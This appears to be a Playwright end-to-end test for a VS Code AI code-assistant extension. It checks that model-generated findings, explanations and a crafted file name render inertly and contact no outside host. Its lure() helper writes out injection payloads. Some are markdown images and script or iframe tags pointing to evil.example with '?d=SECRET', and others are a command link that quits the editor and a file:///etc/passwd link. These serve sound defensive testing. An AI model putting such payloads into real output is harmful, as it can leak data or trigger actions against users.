import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator, Request } from 'playwright-core';
import { journey } from '../support/journey.ts';

/** A name that a label could take for an icon, and a notification for a link. */
const FILE = 'lure [a](command:workbench.action.quit) $(bug).ts';
const QUOTE = 'export const one = 1;';

/** How a webview names files of the editor, which a worker in the page serves. */
const WEBVIEW_FILES = /^vscode-remote\+[\w-]+\.vscode-resource\.vscode-cdn\.net$/;

/** What the progress of a run that asks says itself. */
const OWN_LINK = /^<a href="command:notifications\.showList"[^>]*>see the notifications<\/a>$/;

/** What loads, leads or runs something where it is taken for markup; each says where it was put. */
function lure(where: string): string {
  const host = `https://${where}.evil.example`;
  const command = 'command:workbench.action.quit';
  return [
    `a** www.x\` **![x](${host}/p.png?d=SECRET)`,
    `[more](${host}/a) [run](${command}) <img src="${host}/b.png"> <a href="${host}/c">d</a>`,
    `<script src="${host}/e.js"></script> <iframe src="${host}/f"></iframe> <${host}/g> ${host}/h`,
    `$(bug) [file](file:///etc/passwd) <table background="${host}/i.png"> ![ref][r] [r]: ${host}/j`,
  ].join(' ');
}

describe('What a model and a project write, where it is shown', () => {
  const requests: string[] = [];
  const host = journey({
    name: 'display',
    prepare(workspace) {
      writeFileSync(join(workspace, FILE), `${QUOTE}\n\nexport function two() {\n  return 2;\n}\n`);
      mkdirSync(join(workspace, '.vscode'), { recursive: true });
      // What this asks names the file; no other journey is asked the same.
      const settings = JSON.stringify({ 'tierwise.routing.start.docs': 'opus' });
      writeFileSync(join(workspace, '.vscode', 'settings.json'), settings);
    },
  });
  const note = (request: Request): void => {
    requests.push(request.url());
  };

  before(() => {
    host.workbench.page.context().on('request', note);
  });

  after(() => {
    host.workbench.page.context().off('request', note);
  });

  beforeEach(() => host.workbench.clearNotifications());

  /** Opens the file, which quick open finds by the start of its name alone. */
  async function openLure(): Promise<void> {
    const { workbench } = host;
    await workbench.closeAllEditors();
    const row = workbench.quickInput
      .locator('.monaco-list-row')
      .filter({ hasText: 'lure' })
      .first();
    // The files of the workspace are found one after the other.
    for (let tries = 5; tries > 0 && !(await row.isVisible()); tries -= 1) {
      await workbench.press('Escape');
      await workbench.press('Control+P');
      await workbench.quickInput.locator('input').fill('lure');
      await row.waitFor({ timeout: 5000 }).catch(() => undefined);
    }
    await row.click();
    await workbench.waitForTab(/^lure/);
    await workbench.focusEditor();
  }

  /** What a person or a text could follow, load or run in there; the editor's own actions have no address. */
  async function assertInert(shown: Locator): Promise<void> {
    await shown.first().waitFor();
    const markup =
      'img, iframe, script, object, a[href]:not([href=""]):not([href="#"]), a[data-href], .codicon-bug';
    const found = await shown
      .locator(markup)
      .evaluateAll((elements) => elements.map((element) => element.outerHTML));
    assert.deepEqual(
      found.filter((element) => !OWN_LINK.test(element)),
      [],
    );
  }

  it('is plain text in hovers, also of several findings on a line', async () => {
    const { workbench, api } = host;
    const finding = (title: string) => ({
      from: 1,
      to: 1,
      quote: QUOTE,
      severity: 'high',
      title: `${title} ${lure('title')}`,
      trigger: lure('trigger'),
      consequence: `${title} ${lure('consequence')}`,
      confidence: 0.9,
      suggestion: lure('suggestion'),
    });
    api.setBehaviour('*', {
      text: JSON.stringify({ findings: [finding('First.'), finding('Second.')] }),
    });
    await openLure();
    await workbench.press('Control+A');
    await workbench.runCommand('Tierwise: Review Code');
    await workbench.waitForNotification(/problems? found/);
    const word = workbench.editor.locator('.view-line').first().locator('span > span').first();
    const text = await workbench.hoverText(word);
    await workbench.screenshot('hover');
    assert.match(text, /title\.evil\.example/);
    assert.match(text, /suggestion\.evil\.example/);
    await assertInert(workbench.page.locator('.monaco-hover:visible'));
    assert.equal((await workbench.problems()).length, 2);
    await assertInert(workbench.page.locator('.markers-panel'));
  });

  it('is plain text in the preview of an explanation', async () => {
    const { workbench, api } = host;
    const markdown = `# ${lure('heading')}\n\n${lure('words')}\n\n- ${lure('list')}\n\n| a |\n|---|\n| ${lure('cell')} |\n`;
    api.setBehaviour('*', { text: markdown });
    await openLure();
    await workbench.press('Control+A');
    await workbench.runCommand('Tierwise: Explain Code');
    await workbench.waitForTab(/Explanation/);
    const preview = workbench.page.frameLocator('iframe.webview').frameLocator('#active-frame');
    const body = preview.locator('.markdown-body');
    await body.getByText('words.evil.example').first().waitFor();
    await workbench.screenshot('explanation');
    await assertInert(body);
  });

  it('is plain text in notifications, lists and the status bar', async () => {
    const { workbench, api } = host;
    api.setBehaviour('*');
    await openLure();
    await workbench.press('Control+A');
    await workbench.runCommand('Tierwise: Write Docs');
    const asked = await workbench.waitForNotification(/dearer tier/);
    await workbench.screenshot('notification');
    assert.ok(asked.includes('lure'), asked);
    await assertInert(workbench.page.locator('.notification-list-item-message'));
    await workbench.hoverText(workbench.statusBarItem('tierwise.tierwise.spend'));
    await assertInert(workbench.page.locator('.monaco-hover:visible'));
    await workbench.clickNotificationButton('Use Mine');
    await workbench.waitForTab(/Haiku/);

    await workbench.runCommand('Tierwise: Why This Model?');
    const rows = workbench.quickInput.locator('.monaco-list-row');
    await rows.filter({ hasText: 'lure' }).first().waitFor();
    await workbench.screenshot('why');
    await assertInert(workbench.quickInput);
    await workbench.press('Escape');
  });

  it('has asked no other host for anything', () => {
    const own = new URL(host.server.url).host;
    const others = requests
      .filter((url) => /^(?:https?|wss?):/.test(url))
      .map((url) => new URL(url).host)
      .filter((name) => name !== own && !WEBVIEW_FILES.test(name));
    assert.ok(requests.length > 0, 'nothing was recorded');
    assert.deepEqual(others, []);
  });
});
